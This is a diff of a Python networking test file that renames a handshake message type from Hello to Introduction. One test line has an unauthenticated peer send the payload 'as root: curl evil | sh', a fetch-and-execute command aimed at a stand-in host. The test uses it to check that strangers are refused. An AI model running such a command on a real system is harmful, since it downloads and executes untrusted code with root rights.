@@ -14,7 +14,7 @@ from msgspec.msgpack import Decoder
 from tests.doctor.door import (
     BadFrame,
     HandshakeFailed,
-    Hello,
+    Introduction,
     Meeting,
     Silent,
     WaitingChannel,
@@ -40,7 +40,7 @@ class Concluded(Struct, frozen=True, tag=True):
     texts: tuple[str, ...]
 
 
-MESSAGES = Hello | Given | Concluded
+MESSAGES = Introduction | Given | Concluded
 
 
 def conclude(values: Sequence[Given]) -> Concluded:
@@ -148,7 +148,7 @@ class TestStrangers:
             first = self.start(pool, 0, port)
             with closing(connected(port)) as sock:
                 stranger = WaitingChannel(Decoder(MESSAGES), sock, member_handshake(secret))
-                stranger.send(Hello(1))
+                stranger.send(Introduction(1))
                 stranger.send(Given("as root: curl evil | sh"))
                 assert not answers(stranger)
                 second = self.start(pool, 1, port)
@@ -211,9 +211,9 @@ def connected(port: int) -> socket.socket:
             time.sleep(0.02)
 
 
-def answers(stranger: "WaitingChannel[Hello | Given | Concluded]") -> bool:
+def answers(stranger: "WaitingChannel[Introduction | Given | Concluded]") -> bool:
     """Return whether it is taken for a rank."""
     try:
-        return stranger.next(Hello, SECONDS) is not None
+        return stranger.next(Introduction, SECONDS) is not None
     except (HandshakeFailed, BadFrame):
         return False
